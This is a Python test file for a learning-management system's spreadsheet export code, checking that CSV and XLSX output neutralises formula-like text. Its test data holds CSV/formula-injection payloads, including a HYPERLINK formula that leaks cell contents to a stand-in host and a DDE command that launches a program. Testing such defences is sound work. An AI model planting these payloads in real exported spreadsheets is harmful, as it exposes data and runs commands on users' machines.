"""The one spreadsheet writer (lms/exports.py): formula-like text is neutralised, numbers and
ordinary text are left alone, and an .xlsx reads back as it was written."""

import csv
import datetime
import decimal
import io

import pytest
from openpyxl import load_workbook

from lms.exports import csv_bytes, is_formula_like, neutralise, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A3,"Xem")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_a_single_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "", "a=b", " =1", "'=1", "0912345678"])
def test_ordinary_text_is_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-2, -2.5, decimal.Decimal("-7.25"), 0, None, True])
def test_numbers_stay_numbers(value):
    assert neutralise(value) is value
    assert not is_formula_like(value)


def test_csv_neutralises_text_and_keeps_negative_numbers():
    data = csv_bytes([["Tên", "Điểm"], *[[value, -2] for value in HOSTILE]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Tên", "Điểm"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-2"}


def test_xlsx_text_is_never_a_formula_and_reads_back_unchanged():
    day = datetime.date(2026, 3, 1)
    data = xlsx_bytes({"Bảng": [["Tên", "Điểm", "Ngày"], *[[v, -2, day] for v in HOSTILE]]})
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Bảng"
    rows = list(sheet.iter_rows(min_row=2))
    for (name, score, when), value in zip(rows, HOSTILE, strict=True):
        assert name.data_type == "s"
        assert name.quotePrefix is True
        assert name.value == value
        assert score.value == -2 and score.data_type == "n"
        assert when.value in (day, datetime.datetime.combine(day, datetime.time()))
    heading = next(sheet.iter_rows(max_row=1))[0]
    assert heading.value == "Tên" and not heading.quotePrefix
